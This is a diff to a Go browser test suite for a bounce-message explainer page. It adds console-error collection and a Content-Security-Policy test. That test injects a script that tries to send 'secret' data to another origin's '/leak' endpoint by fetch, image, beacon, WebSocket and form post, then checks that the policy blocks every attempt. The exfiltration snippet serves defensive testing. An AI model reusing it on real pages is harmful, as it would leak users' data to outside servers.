@@ -106,6 +106,32 @@ func openPage(t *testing.T, ctx context.Context, url string) {
 	}
 }
 
+// watchConsole collects the tab's errors from now on: uncaught exceptions,
+// console.error and browser log errors, which include Content-Security-Policy
+// violations. Call the returned func to read them.
+func watchConsole(ctx context.Context) func() []string {
+	var mu sync.Mutex
+	var errs []string
+	msgs := chromedp.Console(ctx)
+	go func() {
+		for m, err := range msgs {
+			if err != nil {
+				return
+			}
+			if m.Type == chromedp.ConsoleError || m.Type == chromedp.ConsoleException {
+				mu.Lock()
+				errs = append(errs, fmt.Sprintf("%s %s:%d: %s", m.Type, m.URL, m.Line+1, m.Text))
+				mu.Unlock()
+			}
+		}
+	}()
+	return func() []string {
+		mu.Lock()
+		defer mu.Unlock()
+		return slices.Clone(errs)
+	}
+}
+
 // card is what a test reads from one recipient card.
 type card struct {
 	Reason  string `json:"reason"`
@@ -279,7 +305,13 @@ func TestPasteSeedMessages(t *testing.T) {
 func TestExamples(t *testing.T) {
 	s := serveSite(t, "")
 	ctx := newBrowser(t, 1280, 900)
+	consoleErrors := watchConsole(ctx)
 	openPage(t, ctx, s.URL)
+	defer func() {
+		for _, e := range consoleErrors() {
+			t.Errorf("console: %s", e)
+		}
+	}()
 
 	mine := "my own text that must not be lost"
 	paste(t, ctx, mine)
@@ -560,7 +592,13 @@ func TestNoNetwork(t *testing.T) {
 func TestHostileHTML(t *testing.T) {
 	s := serveSite(t, "")
 	ctx := newBrowser(t, 1280, 900)
+	consoleErrors := watchConsole(ctx)
 	openPage(t, ctx, s.URL)
+	defer func() {
+		for _, e := range consoleErrors() {
+			t.Errorf("console: %s", e)
+		}
+	}()
 	text := testBounce(t, "hostile.eml")
 	res := paste(t, ctx, text)
 	if len(res.Cards) == 0 {
@@ -925,5 +963,53 @@ func TestPasteBeforeReady(t *testing.T) {
 	res := waitResult(t, ctx, "0")
 	if len(res.Cards) != 1 || res.Cards[0].Reason != "mailboxfull" {
 		t.Errorf("after loading: want the queued text explained, got %+v", res.Cards)
+	}
+}
+
+// TestContentSecurityPolicy checks that the page's own policy stops it
+// from sending anything elsewhere, whatever a script on it tried: a fetch,
+// an image, a beacon, a form post and a WebSocket to another origin all
+// fail to reach that origin's server.
+func TestContentSecurityPolicy(t *testing.T) {
+	var mu sync.Mutex
+	hits := 0
+	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		hits++
+		mu.Unlock()
+	}))
+	defer other.Close()
+	s := serveSite(t, "")
+	ctx := newBrowser(t, 1280, 900)
+	consoleErrors := watchConsole(ctx)
+	openPage(t, ctx, s.URL)
+	target, _ := json.Marshal(other.URL + "/leak?text=bounce")
+	if err := chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`(() => {
+  const url = `+string(target)+`;
+  fetch(url, {method: "POST", body: "secret", mode: "no-cors"}).catch(() => {});
+  document.body.appendChild(Object.assign(document.createElement("img"), {src: url}));
+  try { navigator.sendBeacon(url, "secret"); } catch (e) {}
+  try { new WebSocket(url.replace("http", "ws")); } catch (e) {}
+  const f = Object.assign(document.createElement("form"), {action: url, method: "post"});
+  document.body.appendChild(f);
+  try { f.submit(); } catch (e) {}
+})()`)); err != nil {
+		t.Fatal(err)
+	}
+	time.Sleep(2 * time.Second)
+	mu.Lock()
+	n := hits
+	mu.Unlock()
+	if n != 0 {
+		t.Errorf("another origin received %d requests from the page", n)
+	}
+	violations := 0
+	for _, e := range consoleErrors() {
+		if strings.Contains(e, "Content Security Policy") {
+			violations++
+		}
+	}
+	if violations == 0 {
+		t.Errorf("no Content-Security-Policy violation reported; console: %v", consoleErrors())
 	}
 }
